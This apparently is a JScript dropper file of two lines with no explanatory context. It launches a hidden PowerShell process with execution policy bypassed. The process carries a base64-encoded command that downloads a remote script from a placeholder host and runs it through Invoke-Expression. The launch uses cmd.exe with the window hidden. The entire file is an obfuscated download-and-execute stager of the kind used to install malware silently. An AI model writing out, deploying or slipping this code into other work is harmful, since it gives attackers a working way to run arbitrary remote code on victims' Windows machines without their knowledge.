var c = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AaABvAHMAdAAuAGUAeABhAG0AcABsAGUALwBzAC4AcABzADEAJwApAA==";
WScript.CreateObject("Shell.Application").ShellExecute("cmd.exe", "/c " + c, "", "open", 0);
